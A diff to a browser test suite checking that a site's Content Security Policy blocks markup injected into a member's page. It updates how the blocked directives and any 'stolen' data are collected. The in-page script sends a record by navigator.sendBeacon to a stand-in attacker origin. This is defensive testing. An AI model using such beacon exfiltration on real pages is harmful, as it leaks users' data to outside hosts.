@@ -140,11 +140,11 @@ describe('markup injected into a member’s page [G8]', () => {
     await page.waitForURL('**/member-dashboard');
     await page.goto(site.origin + path);
     await hydrated(page);
-    const outcome = await page.evaluate(
+    const record = await page.evaluate(
       async ([markup, evilOrigin]) => {
         const stolen: unknown[] = [];
         const blocked: string[] = [];
-        Object.assign(window, { stolen });
+        Object.assign(window, { stolen, blocked });
         document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
           blocked.push(effectiveDirective),
         );
@@ -160,23 +160,27 @@ describe('markup injected into a member’s page [G8]', () => {
           () => false,
         );
         navigator.sendBeacon(`${evilOrigin}/beacon`, record);
-        await new Promise((resolve) => setTimeout(resolve, 300));
-        return { stolen, blocked, sent, hasRecord: record !== null };
+        return { sent, hasRecord: record !== null };
       },
       [MARKUP, EVIL_ORIGIN],
     );
-    expect(outcome).toMatchObject({ stolen: [], sent: false, hasRecord: true });
-    expect(new Set(outcome.blocked)).toEqual(
-      new Set([
-        'script-src-attr',
-        'connect-src',
-        'img-src',
-        'form-action',
-        'style-src-elem',
-        'object-src',
-        'script-src-elem',
-      ]),
-    );
+    expect(record).toEqual({ sent: false, hasRecord: true });
+    const collected = (name: 'blocked' | 'stolen') =>
+      page.evaluate((list): unknown[] => Reflect.get(window, list), name);
+    await expect
+      .poll(async () => new Set(await collected('blocked')))
+      .toEqual(
+        new Set([
+          'script-src-attr',
+          'connect-src',
+          'img-src',
+          'form-action',
+          'style-src-elem',
+          'object-src',
+          'script-src-elem',
+        ]),
+      );
+    expect(await collected('stolen')).toEqual([]);
     expect(reached).toEqual([]);
     expect(page.url()).toBe(site.origin + path);
   });
